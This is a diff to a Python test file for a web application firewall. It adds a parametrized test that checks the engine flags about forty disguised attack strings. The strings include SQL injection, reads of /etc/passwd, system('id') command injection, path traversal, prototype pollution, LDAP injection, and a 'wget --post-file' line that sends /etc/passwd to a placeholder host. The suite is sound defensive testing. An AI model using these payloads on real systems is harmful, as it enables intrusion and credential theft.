@@ -9,6 +9,7 @@ from functools import cache
 
 import pytest
 from tests.inspect_suite.running import inspected
+from tests.waf_pack.cases import FORM, body
 from tests.waf_pack.engines import rules
 from tests.waf_pack.fresh_attacks import requests
 
@@ -35,9 +36,9 @@ def engine() -> FastEngine:
 def refused(ahead: str = "", behind: str = "") -> tuple[Counter[str], Counter[str]]:
     """Return how many attacks of each class there are, and how many are refused."""
     there, found = Counter[str](), Counter[str]()
-    for kind, request, body in requests(ahead, behind):
+    for kind, request, data in requests(ahead, behind):
         there[kind] += 1
-        found[kind] += inspected(engine(), request, body, _PAGE, b"").verdict is not None
+        found[kind] += inspected(engine(), request, data, _PAGE, b"").verdict is not None
     return there, found
 
 
@@ -63,3 +64,57 @@ def test_long_ordinary_text_behind_hides_no_attack(behind: str) -> None:
     there, found = refused(behind=behind)
     for kind, count in there.items():
         assert found[kind] >= 0.8 * count, kind
+
+
+_HIDING = (
+    "create x' union select pass from users where 'a'='a",
+    "create x' or pass like 'a",
+    "create x'; drop table users; select '",
+    "create table x (a int); 1 union select pass from users",
+    "create x' or 1=1 -- ",
+    "create x' and sleep(5) and '",
+    "-- don't or 1=1 union select pass from users",
+    "/* it's */ create x' or 'a'='a",
+    "drop table users;",
+    "it's ok\n' or 1=1 --",
+    "x'\nor 'a'='a",
+    "a\" 'x' or 'a'='a",
+    "rock 'n' roll' or 'a'='a",
+    "const a = 1\n\n' or 1=1 -- ",
+    "let x' or 1=1 --\naa\nbb\n",
+    "1;while(1){}",
+    "a=process.env.SECRET",
+    "');require('fs').readFileSync('/etc/passwd')//",
+    "Object.assign(Object.prototype,{a:1})",
+    "x[__proto__][a]=1",
+    "echo getenv('SECRET');",
+    "');fopen('/etc/passwd','r');//",
+    "foo */ system('id'); /*",
+    "assert(true);system('id');",
+    "jar:file:///x!/y",
+    "wget --post-file /etc/passwd h.example",
+    "sort /etc/passwd",
+    "img ../../etc/passwd",
+    "foo ../../../../x",
+    "../../config",
+    "print(os.environ['SECRET'])",
+    "x=os.listdir(a)",
+    "self['al'+'ert'](1)",
+    "String.fromCharCode(88,83,83)",
+    "cat<(id)",
+    "cat$IFS/etc/hosts",
+    "$('id')",
+    "' && this.pass.match(/a/) && '",
+    "return this.a == 1",
+    "a)(|(uid=*)",
+    "${new Foo()}",
+    "chown a:b x",
+)
+
+
+@pytest.mark.parametrize("value", _HIDING)
+def test_what_looks_like_a_script_or_a_program_hides_no_attack(value: str) -> None:
+    """Each value has the begin or the form of what passes, and an attack in it."""
+    coded = b"text=" + b"".join(b"%%%02x" % each for each in value.encode())
+    sample = body(coded, FORM)
+    assert inspected(engine(), sample.request, sample.body, _PAGE, b"").verdict is not None
